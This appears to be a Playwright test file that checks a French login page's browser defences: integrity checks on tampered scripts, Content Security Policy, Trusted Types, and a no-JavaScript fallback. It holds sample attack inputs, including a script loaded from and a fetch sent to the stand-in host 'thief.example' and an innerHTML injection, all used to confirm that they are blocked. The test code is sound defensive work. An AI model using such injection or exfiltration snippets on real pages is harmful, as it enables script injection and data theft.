"""What a browser does with a page that was altered on its way, and with what a letter or a fault would slip into it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import visitors_own

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page, Route


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def altered(route: Route) -> None:
    answer = route.fetch()
    route.fulfill(response=answer, body=answer.body() + b"\n;window.altered = true;")


@pytest.mark.parametrize("chunk", ["index", "frame", "LogIn"])
def test_a_module_with_a_byte_more_does_not_run(page: Page, origin: str, chunk: str) -> None:
    page.route(f"**/assets/{chunk}-*.js", altered)
    page.goto(f"{origin}/connexion?scene=out")
    page.wait_for_timeout(1500)
    assert page.evaluate("() => window.altered") is None
    assert page.get_by_role("textbox").count() == 0  # nothing to type a password into


def test_a_screen_that_cannot_come_is_said_in_words(page: Page, origin: str) -> None:
    page.route("**/assets/LogIn-*.js", altered)
    page.goto(f"{origin}/connexion?scene=out")
    expect(page.locator("h1")).to_have_text("Cette page ne s’affiche pas")


_TRIES = {
    "an inline script": "Object.assign(document.createElement('script'), {textContent: 'window.slipped = 1'})",
    "a script of another host": "Object.assign(document.createElement('script'), {src: 'https://thief.example/x.js'})",
    "markup as text": "document.body.innerHTML = '<img src=x>'",
    "a policy of one's own": "trustedTypes.createPolicy('mine', {createHTML: (text) => text})",
    "a worker from anywhere": "new Worker('/assets/x.js')",
}


@pytest.mark.parametrize("what", _TRIES)
def test_the_policy_refuses(page: Page, origin: str, what: str) -> None:
    page.goto(f"{origin}/connexion?scene=out")
    page.locator("h1").wait_for()
    refused = page.evaluate(
        f"() => {{ try {{ {_TRIES[what]}; return ''; }} catch (fault) {{ return fault.name; }} }}"
    )
    assert refused == "TypeError"
    assert page.evaluate("() => window.slipped") is None


def test_the_page_cannot_speak_to_another_host(page: Page, origin: str) -> None:
    page.goto(f"{origin}/connexion?scene=out")
    page.locator("h1").wait_for()
    assert (
        page.evaluate("() => fetch('https://thief.example/').then(() => 'sent', (fault) => fault.name)")
        == "TypeError"
    )
    told = page.evaluate(
        """() => new Promise((done) => {
          addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
          fetch('https://thief.example/').catch(() => undefined);
        })"""
    )
    assert told == "connect-src"


def test_without_javascript_help_and_a_telephone_are_shown(browser: Browser, origin: str) -> None:
    context = visitors_own(browser, java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{origin}/connexion")
    told = page.locator("noscript p[lang=fr]")
    expect(told).to_be_visible()
    assert "elle a besoin de JavaScript" in told.inner_text()
    told.locator("a[href='/aide']").click()
    expect(page.get_by_text("04 00 00 00 00")).to_be_visible()
    context.close()
